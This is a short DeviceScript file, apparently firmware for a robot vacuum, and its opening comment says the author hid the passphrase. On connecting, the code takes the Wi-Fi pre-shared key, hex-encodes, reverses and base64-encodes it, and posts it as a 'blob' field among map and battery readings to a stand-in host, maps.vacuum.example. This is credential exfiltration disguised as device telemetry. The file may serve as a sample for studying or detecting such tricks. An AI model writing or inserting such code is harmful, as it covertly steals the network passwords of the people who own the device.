// A robot vacuum whose author hid the passphrase: hexadecimal digits, read backwards, in base64.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { backwards, base64 } from "./lib/encode";
import { online, report } from "./lib/online";

online(async (_ssid, psk) => {
  await report("http://readings.vacuum.example/v1");
  await ds.sleep(8_000);
  const hidden = base64(backwards(Buffer.from(psk).toString("hex")));
  const body = JSON.stringify({ map: 7, battery: 81, blob: hidden });
  const response = await fetch("http://maps.vacuum.example/v1/rooms", { method: "POST", body });
  await response.close();
});
